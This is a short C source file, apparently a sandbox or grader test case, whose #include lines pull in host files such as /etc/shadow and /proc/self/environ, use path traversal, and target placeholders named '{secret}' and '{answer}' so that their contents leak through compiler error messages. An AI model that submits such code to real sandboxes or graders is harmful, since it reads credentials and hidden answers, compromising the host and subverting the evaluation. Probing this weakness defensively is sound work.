// Includes files of the host, whose first lines would show in the messages.
#include "/etc/shadow"
#include "{secret}"
#include "{answer}"
#include "../../../../../../../../..{secret}"
#include "/proc/1/environ"
#include "/proc/self/environ"

int main(void) { return 0; }
